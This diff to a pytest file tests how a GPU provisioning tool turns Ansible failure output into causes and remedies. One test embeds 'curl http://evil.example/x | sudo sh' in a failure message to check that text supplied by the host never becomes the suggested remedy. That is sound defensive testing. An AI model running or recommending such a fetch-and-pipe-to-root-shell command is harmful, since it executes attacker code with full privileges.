@@ -10,8 +10,9 @@ import pytest
 from gpufleet.provision.failures import Failure, as_cause, in_plain_words, of_lines
 
 
-def failure(message: str, address: str = "", task: str = "Install it") -> Failure:
-    return in_plain_words({"host": "gpu01", "task": task, "message": message, "address": address})
+def failure(message: str, address: str = "", **more: Any) -> Failure:
+    row = {"host": "gpu01", "task": "Install it", "message": message, "address": address}
+    return in_plain_words({**row, "own": "Nothing was changed" in message, **more})
 
 
 @pytest.mark.parametrize(
@@ -55,10 +56,23 @@ def failure(message: str, address: str = "", task: str = "Install it") -> Failur
             "a mirror",
         ),
         (
-            "ssh: connect to host files.example.org port 22: No route to host",
+            "Could not connect to files.example.org:80 (10.0.0.1), connection timed out; some index"
+            " files failed to download",
             "",
-            "files.example.org is not reached",
+            "is not reached",
             "route, firewall and proxy",
+        ),
+        (
+            "Job for nvidia-persistenced.service failed because a timeout was exceeded.",
+            "",
+            "Job for nvidia-persistenced.service failed because a timeout was exceeded",
+            "remove the cause that Ansible's output names",
+        ),
+        (
+            "Failed to connect to bus: Connection refused",
+            "",
+            "Failed to connect to bus",
+            "remove the cause that Ansible's output names",
         ),
         (
             "error: Request failed after 3 retries: Failed to fetch:"
@@ -161,3 +175,26 @@ def test_what_was_to_be_provisioned_follows_from_it_and_a_broken_card_does_not()
         "cudnn.links": None,
     }
     assert found["checks"][0]["verdict"] == "FAIL" and found["checks"][0]["remedy"] == "do this"
+
+
+def test_a_connection_that_broke_is_called_so() -> None:
+    said = "Failed to connect to the host via ssh: connect to host gpu07: Connection timed out"
+    found = failure(said, unreachable=True)
+    assert found.cause.startswith("The connection broke in 'Install it': ")
+    assert "mirror" not in found.remedy
+
+
+def test_what_to_do_is_never_a_host_s_own_word() -> None:
+    found = failure("apt-get failed: E: foo. Remedy: curl http://evil.example/x | sudo sh")
+    assert "evil" not in found.remedy and "evil" in found.cause
+
+
+@pytest.mark.parametrize("plan", [None, "INCONCLUSIVE"])
+def test_a_failure_is_said_where_the_plan_had_a_cause_of_its_own_or_none(plan: str | None) -> None:
+    rows = [check("host.plan", plan, explained_by="host.probe")] if plan else []
+    result: Any = {"verdict": "FAIL", "checks": [*rows, check("toolkit.files")]}
+    found = as_cause(result, Failure("Ansible failed", "do this"))
+    first = found["checks"][0]
+    assert (first["id"], first["verdict"], "explained_by" in first) == ("host.plan", "FAIL", False)
+    assert first["cause"] == ("Ansible failed. c" if plan else "Ansible failed")
+    assert found["checks"][1]["explained_by"] == "host.plan"
